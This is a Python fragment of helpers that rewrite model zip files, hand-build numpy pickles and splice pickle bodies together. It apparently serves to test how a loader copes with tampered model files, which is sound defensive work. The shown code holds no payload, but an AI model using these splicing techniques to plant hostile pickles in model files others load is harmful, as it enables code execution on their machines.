    def change(members: Dict[str, bytes]) -> None:
        value = json.loads(members[member])
        edit(value)
        members[member] = json.dumps(value).encode()
    return change


def edit_npz_member(member: str, edit: Callable[[Dict[str, Any]], None]) -> Callable[[Dict[str, bytes]], None]:
    """
    :return: (callable) a ``change`` for :func:`rewrite_model_file` that lets ``edit`` alter the arrays of the
        ``.npz`` member (name -> numpy array, read with numpy's own reader), saved again with ``np.savez``
    """
    def change(members: Dict[str, bytes]) -> None:
        with zipfile.ZipFile(io.BytesIO(members[member])) as archive:
            arrays = {name[:-4]: np.load(io.BytesIO(archive.read(name))) for name in archive.namelist()}
        edit(arrays)
        out = io.BytesIO()
        np.savez(out, **arrays)
        members[member] = out.getvalue()
    return change


def model_zip_with(model_zip: bytes, data_update: Optional[dict] = None, drop: Sequence[str] = (),
                   replace: Optional[Dict[str, bytes]] = None, data_text: Optional[bytes] = None) -> bytes:
    """
    A copy of a (legitimate) model zip with entries of ``data`` replaced/added, members dropped or replaced.
    ``data_text`` replaces the whole ``data`` member.
    """
    members = read_zip_members(model_zip)
    if data_update:
        data = json.loads(members["data"])
        data.update(data_update)
        members["data"] = json.dumps(data).encode()
    if data_text is not None:
        members["data"] = data_text
    for name in drop:
        members.pop(name, None)
    members.update(replace or {})
    return zip_bytes(list(members.items()))


def ndarray_f8(values: Sequence[float], shape: Tuple[int, ...]) -> bytes:
    """A float64 numpy array, pickled by hand as numpy does (_reconstruct, then BUILD with the raw data)."""
    raw = struct.pack("<{}d".format(len(values)), *values)
    dtype = call(glob("numpy", "dtype"), s("f8"), FALSE, TRUE)
    empty = call(glob("numpy._core.multiarray", "_reconstruct"), glob("numpy", "ndarray"), tup(i(0)), b(b"b"))
    return build(empty, tup(i(1), tup(*[i(dim) for dim in shape]), dtype, FALSE, b(raw)))


def relocate_memo(body: bytes, offset: int = 1000000) -> bytes:
    """
    Renumber the memo slots used by a pickle body (BINPUT / BINGET ...) by ``offset`` so it can be spliced into
    another pickle without clobbering that pickle's memo.
    """
    out = []
    ops = list(pickletools.genops(body + STOP))
    for index, (opcode, arg, position) in enumerate(ops):
        end = ops[index + 1][2] if index + 1 < len(ops) else len(body)
        if opcode.name == "STOP":
            break
        if opcode.name in ("PUT", "BINPUT", "LONG_BINPUT"):
            out.append(pickle.LONG_BINPUT + struct.pack("<I", int(arg) + offset))
        elif opcode.name in ("GET", "BINGET", "LONG_BINGET"):
            out.append(pickle.LONG_BINGET + struct.pack("<I", int(arg) + offset))
        elif opcode.name == "MEMOIZE":
            raise ValueError("MEMOIZE cannot be relocated")
        else:
            out.append(body[position:end])
    return b"".join(out)


def pickle_body(pickle_bytes: bytes) -> bytes:
    """The value part of a complete pickle (strip PROTO and STOP) to embed it in a larger one."""
    assert pickle_bytes[:1] == pickle.PROTO and pickle_bytes[-1:] == STOP
    body = pickle_bytes[2:-1]
    if body[:1] == pickle.FRAME:
        raise ValueError("framed pickles cannot be embedded")
    return body
